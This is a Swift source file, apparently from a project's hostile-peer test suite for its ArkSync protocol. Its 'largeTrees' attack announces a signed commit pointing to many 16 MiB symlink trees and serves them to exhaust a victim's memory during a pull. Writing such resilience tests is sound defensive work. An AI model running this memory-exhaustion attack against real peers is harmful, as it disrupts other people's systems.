import ArkCore
import ArkSync
import Foundation
import Synchronization

/// Serves a commit, its root tree and `count` generated trees, each made again from its number
/// whenever it is asked for, so the attacker holds one at a time. Responses keep to
/// `SyncLimits.responseBudget` as an honest responder's do (one larger object goes alone).
final class GeneratingHandler: PeerHandler {
    let fixed: [ObjectID: WireObject]
    let generated: [ObjectID: Int]
    let make: @Sendable (Int) throws -> [UInt8]
    let heads: [HeadAnnouncement]
    let served = Atomic<Int>(0)
    let bytesServed = Atomic<Int>(0)

    init(fixed: [WireObject], generated: [ObjectID: Int], heads: [HeadAnnouncement], make: @escaping @Sendable (Int) throws -> [UInt8]) {
        self.fixed = Dictionary(fixed.map { ($0.id, $0) }, uniquingKeysWith: { a, _ in a })
        self.generated = generated
        self.heads = heads
        self.make = make
    }

    func connectionOpened(_ connection: any PeerConnection) async {}
    func connectionClosed(_ connection: any PeerConnection) async {}
    func handleRequest(_ body: [UInt8], from connection: any PeerConnection) async throws -> [UInt8] {
        switch try SyncRequest(decoding: body) {
        case .getObjects(let ids):
            var out: [WireObject] = []
            var total = 0
            for id in ids {
                let object: WireObject
                if let o = fixed[id] {
                    object = o
                } else if let n = generated[id] {
                    object = WireObject(id: id, kind: .tree, bytes: try make(n))
                } else {
                    continue
                }
                if !out.isEmpty && total + object.bytes.count > SyncLimits.responseBudget { break }
                total += object.bytes.count
                out.append(object)
            }
            served.add(out.count, ordering: .relaxed)
            bytesServed.add(total, ordering: .relaxed)
            return SyncResponse.objects(out).encoded
        case .getHeads: return SyncResponse.heads(heads).encoded
        case .reconcile: throw SyncError.remote("not reconciling")
        }
    }
    func handleNotification(_ body: [UInt8], from connection: any PeerConnection) async {}
}

extension HostileAttack {
    /// A tree of symlinks with 4,000-byte targets, `--tree-mib` MiB (at most 16, the object
    /// limit), distinct for each `n`.
    static func largeTree(_ n: Int, mib: Int) throws -> [UInt8] {
        let target = String(repeating: "x", count: 4000)
        let entries = mib * (1 << 20) / 4020
        return try Tree(entries: (0..<entries).map { i in .symlink(FileName("t\(n)-\(i)"), target: target) }).encoded()
    }

    /// As a member, announces a commit of `--repo` whose root tree names `--count` directories,
    /// each a tree of `--tree-mib` MiB (default 16, the object limit), and serves them, then
    /// holds the connection until every tree was served or `--seconds` passed. A victim whose
    /// pull held a page of trees in memory peaks at count x tree size.
    static func largeTrees(_ options: HostileOptions) async throws -> [String: any Sendable] {
        let count = try options.int("count", default: 32)
        let mib = min(16, max(1, try options.int("tree-mib", default: 16)))
        let repo = options.string("repo", default: "proj")
        let seconds = try options.double("seconds", default: 120)
        let identity = try options.identity()
        var generated: [ObjectID: Int] = [:]
        var dirs: [Tree.Entry] = []
        for n in 0..<count {
            let id = ObjectHasher.hash(.tree, try largeTree(n, mib: mib))
            generated[id] = n
            dirs.append(.directory(FileName("d\(n)"), tree: id, size: 0))
        }
        let rootBytes = try Tree(entries: dirs).encoded()
        let root = ObjectHasher.hash(.tree, rootBytes)
        let now = Int64(Date().timeIntervalSince1970)
        let sig = Commit.Signature(name: "hostile", email: "hostile@example.org", time: now, tzOffsetMinutes: 0)
        let commitBytes = Commit(tree: root, parents: [], author: sig, committer: sig, message: "large trees", node: identity.endpointID)
            .encoded()
        let commit = ObjectHasher.hash(.commit, commitBytes)
        let head = HeadAnnouncement.signed(
            by: identity, repo: repo, name: "large", seq: UInt64(now) * 1000, generation: 1, head: commit, previous: nil,
            time: UInt64(now) * 1000)
        let handler = GeneratingHandler(
            fixed: [WireObject(id: commit, kind: .commit, bytes: commitBytes), WireObject(id: root, kind: .tree, bytes: rootBytes)],
            generated: generated, heads: [head], make: { try largeTree($0, mib: mib) })
        let (transport, connection) = try await connectAsMember(options, handler: handler)
        try await connection.notify(SyncNotification.announce(head).encoded)
        FileHandle.standardError.write(Data("sent 1 announcement of \(count) trees of \(mib) MiB\n".utf8))
        let start = Date()
        while handler.served.load(ordering: .relaxed) < count + 2, Date().timeIntervalSince(start) < seconds {
            try? await Task.sleep(for: .milliseconds(100))
        }
        try? await Task.sleep(for: .seconds(1))
        connection.close()
        await transport.shutdown()
        return [
            "attack": "large-trees", "trees": count, "tree_mib": mib, "repo": repo, "writer": identity.endpointID.hex,
            "commit": commit.hex, "objects_served": handler.served.load(ordering: .relaxed),
            "bytes_served": handler.bytesServed.load(ordering: .relaxed), "seconds": Date().timeIntervalSince(start)
        ]
    }
}
